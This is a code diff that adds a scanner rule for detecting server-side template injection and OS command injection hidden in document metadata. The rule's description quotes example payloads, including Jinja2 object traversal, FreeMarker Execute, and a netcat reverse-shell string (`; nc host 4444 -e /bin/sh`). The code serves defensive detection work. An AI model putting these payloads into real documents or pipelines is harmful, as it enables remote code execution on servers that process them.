@@ -53,3 +53,25 @@ export const metadataExternalEntity = defineRule({
     };
   },
 });
+
+export const serverCodeInjection = defineRule({
+  id: "server-code-injection",
+  title: "Template or shell injection aimed at the server that processes the document",
+  description:
+    "A value of the document that servers read (its title, author or other information, a form field's value, an annotation, an attachment's name, the XML metadata) holds code for the software that renders or passes the value on: template code that reaches the runtime (Jinja2 or Twig object traversal such as `{{''.__class__.__mro__}}`, FreeMarker's `freemarker.template.utility.Execute`, Spring EL or OGNL naming `java.lang.Runtime`, Velocity class loading, ERB or EJS code), a template probe (`{{7*7}}`, `${7*7}`: a test of whether the server evaluates it), or a shell command that fetches a file or opens a shell after a command substitution or a separator (`$(curl https://...)`, `; nc host 4444 -e /bin/sh`). A report generator, a document-management system or a conversion script that puts the value into a template or a command line runs it (server-side template injection, OS command injection). Documents never need either in their metadata; page text is not searched.",
+  category: "exploit",
+  severity: "high",
+  weight: 45,
+  attack: ["T1190", "T1059"],
+  mitigations: ["update_document_pipeline", "block_indicators"],
+  confidence: "high",
+  check({ processorInjections }) {
+    const payloads = processorInjections.filter((p) => p.kind === "template" || p.kind === "command");
+    if (!payloads.length) return null;
+    return {
+      evidence: payloads.map((p) =>
+        evidence({ objectRef: p.objectRef, excerpt: `${p.what} in ${p.where}: ${excerpt(p.excerpt)}` }),
+      ),
+    };
+  },
+});
